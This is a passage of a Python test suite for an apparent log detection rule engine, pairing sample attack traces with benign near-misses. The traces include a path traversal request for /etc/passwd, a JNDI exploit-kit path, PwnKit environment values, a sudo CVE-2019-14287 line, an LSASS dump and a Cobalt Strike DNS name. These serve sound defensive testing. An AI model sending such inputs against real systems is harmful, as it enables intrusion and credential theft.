    Case("Tor .onion name resolved", "winlog-json",
         (sysmon(22, {"Image": TEMP + "tor.exe", "QueryName": "duskgytldkxiuqc6.onion",
                      "QueryStatus": "9003", "QueryResults": "-"}),),
         {TOR_DNS: 1},
         (sysmon(22, {"Image": TEMP + "tor.exe", "QueryName": "onion.example.vn",
                      "QueryStatus": "0", "QueryResults": "::ffff:203.0.113.9;"}),),
         {}),
    Case("IP lookup service from PowerShell, not from a browser", "winlog-json",
         (sysmon(22, {"Image": POWERSHELL_EXE, "QueryName": "api.ipify.org",
                      "QueryStatus": "0", "QueryResults": "::ffff:104.26.12.205;"}),),
         {IP_LOOKUP: 1},
         (sysmon(22, {"Image": r"C:\Program Files\Mozilla Firefox\firefox.exe",
                      "QueryName": "api.ipify.org", "QueryStatus": "0",
                      "QueryResults": "::ffff:104.26.12.205;"}),),
         {}),
    # ---------------------------------------------------------------- file_event (Sysmon 11)
    Case("LSASS dump written", "winlog-json",
         (sysmon(11, {"Image": SYSTEM32 + "rundll32.exe",
                      "TargetFilename": r"C:\Windows\Temp\lsass.dmp",
                      "CreationUtcTime": "2026-11-22 03:00:00.401"}),),
         {LSASS_DUMP: 1},
         (sysmon(11, {"Image": SYSTEM32 + "rundll32.exe",
                      "TargetFilename": r"C:\Windows\Temp\lsasrv.log",
                      "CreationUtcTime": "2026-11-22 03:00:00.401"}),),
         {}),
    Case("file dropped in the Startup folder", "winlog-json",
         (sysmon(11, {"Image": TEMP + "inv.exe", "TargetFilename":
                      r"C:\Users\tranthib\AppData\Roaming\Microsoft\Windows\Start Menu"
                      r"\Programs\StartUp\upd.lnk", "CreationUtcTime": "2026-11-22 03:00:00"}),),
         {STARTUP: 1},
         (sysmon(11, {"Image": SYSTEM32 + "wuauclt.exe", "TargetFilename":
                      r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\a.lnk",
                      "CreationUtcTime": "2026-11-22 03:00:00"}),),
         {}),
    # ---------------------------------------------------------------- linux (auth.log)
    Case("sshd fatal error (keywords)", "sshd",
         (AUTH.format(1) + "sshd[4242]: fatal: buffer_get_string: bad string [preauth]",),
         {SSHD_ERROR: 1},
         (AUTH.format(2) + "sshd[4243]: Accepted publickey for quantri from 10.45.1.5 port "
          "50412 ssh2: ED25519 SHA256:Xq3m2P5yZ0bKcH1w9vE7tRkJ4nL8sD6fG2aQ1uY0iOo",),
         {}),
    Case("sudo -u#-1 (CVE-2019-14287)", "sshd",
         (AUTH.format(3) + "sudo:  nguyenvana : TTY=pts/0 ; PWD=/home/nguyenvana ; "
          "USER=#-1 ; COMMAND=/usr/bin/id",),
         {SUDO_CVE: 1},
         (AUTH.format(4) + "sudo:  nguyenvana : TTY=pts/0 ; PWD=/home/nguyenvana ; "
          "USER=root ; COMMAND=/usr/bin/id",),
         {}),
    Case("PwnKit (CVE-2021-4034) in auth.log", "sshd",
         (AUTH.format(5) + "pkexec[12345]: nguyenvana: The value for environment variable "
          "XAUTHORITY contains suscipious content [USER=root] [TTY=/dev/pts/0] "
          "[CWD=/home/nguyenvana] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. "
          "CHARSET=PWNKIT SHELL=pwnkit]",),
         {PWNKIT: 1},
         (AUTH.format(6) + "pkexec[12346]: pam_unix(polkit-1:session): session opened for "
          "user root(uid=0) by nguyenvana(uid=1000)",),
         {}),
    # ---------------------------------------------------------------- web (nginx access)
    Case("JNDI exploit kit path (keywords)", "nginx",
         (NGINX.format("/Basic/Command/Base64/d2hvYW1p", 404, "curl/8.5.0"),),
         {JNDI: 1},
         (NGINX.format("/Basic/index.html", 200, BROWSER),),
         {}),
    Case("recon tool user agent", "nginx",
         (NGINX.format("/wp-login.php", 200, "WPScan v3.8.22 (https://wpscan.com/)"),),
         {RECON_AGENT: 1},
         (NGINX.format("/wp-login.php", 200, BROWSER),),
         {}),
    Case("Apache CVE-2021-41773 path traversal", "nginx",
         (NGINX.format("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 200, "curl/8.5.0"),),
         {APACHE_CVE: 1},
         (NGINX.format("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/8.5.0"),),
         {}),
    # ---------------------------------------------------------------- network (Zeek dns.log)
    Case("Cobalt Strike DNS beacon name", "zeek",
         (zeek_dns("aaa.stage.13245678.cdn.example-c2.com"),),
         {COBALT_DNS: 1},
         (zeek_dns("www.example.com"),),
         {}),
    # ---------------------------------------------------------------- correlation
    Case("five failed logons for one account from one address in five minutes",
         "winlog-json",
         tuple(logon(4625, "3", "10.45.3.7", second=10 * n, record=n) for n in range(5)),
         {BRUTE_FORCE: 1},
         tuple(logon(4625, "3", "10.45.3.7", second=10 * n, record=n) for n in range(4)),
         {}),
]


def case_params() -> list[Any]:
    return [pytest.param(case, id=case.name) for case in CASES]


def test_the_hand_written_cases_cover_the_categories() -> None:
    assert len(CASES) == 31
    assert Counter(case.fmt for case in CASES) == {
        "winlog-json": 24, "sshd": 3, "nginx": 3, "zeek": 1}


@pytest.mark.parametrize("case", case_params())
def test_the_behaviour_fires_exactly_its_rules(case: Case) -> None:
    assert fired(parse(case.fmt, case.fire)) == case.fires


@pytest.mark.parametrize("case", case_params())
def test_the_near_miss_raises_nothing_else(case: Case) -> None:
    assert fired(parse(case.fmt, case.near_miss)) == case.quiet


def test_the_brute_force_correlation_names_account_and_source() -> None:
    events = parse("winlog-json", [logon(4625, "3", "10.45.3.7", second=10 * n, record=n)
                                   for n in range(6)])
    engine = RuleEngine(corpus()[0])
    alerts = [a for a in engine.detect(events) + engine.flush() if a["rule.id"] == BRUTE_FORCE]
    assert len(alerts) == 1
    assert alerts[0]["event.ids"] == [e["event.id"] for e in events[:5]]


def test_failed_logons_for_different_accounts_from_different_sources_do_not_correlate() -> None:
    events = parse("winlog-json", [
        logon(4625, "3", f"10.45.3.{n + 1}", user=f"ketoan0{n}", second=10 * n, record=n)
        for n in range(5)])
    assert fired(events) == {}


# Each gap the sample exposed (now closed), alone on the smallest real case.

def test_an_interactive_logon_is_not_pass_the_hash() -> None:
    # Pass the Hash Activity 2 wants logon type 3 over NTLM or type 9 via seclogo.
    assert fired(parse("winlog-json", [logon(4624, "2", "-")])) == {}


def test_a_console_logon_failure_is_not_from_a_public_address() -> None:
    assert fired(parse("winlog-json", [logon(4625, "2", "-")])) == {}


def test_a_zeek_dns_query_raises_no_rule_of_the_zeek_rdp_log() -> None:
    assert fired(parse("zeek", [zeek_dns("www.example.com")])) == {}


def test_a_scheduled_task_created_by_system_is_filtered() -> None:
    event = process(SYSTEM32 + "schtasks.exe", "schtasks /create /tn GoogleUpdate /xml a.xml",
                    SYSTEM32 + "services.exe", "services.exe", user=r"NT AUTHORITY\SYSTEM")
    assert fired(parse("winlog-json", [event])) == {}


def test_an_alert_names_the_rule_authors_as_the_licence_requires() -> None:
    whoami = process(SYSTEM32 + "whoami.exe", "whoami  /all", SYSTEM32 + "cmd.exe", "cmd.exe")
    alerts = RuleEngine(corpus()[0]).detect(parse("winlog-json", [whoami]))
    assert [alert["rule.id"] for alert in alerts] == [WHOAMI]
    assert "Florian Roth (Nextron Systems)" in str(alerts[0].get("rule.author"))
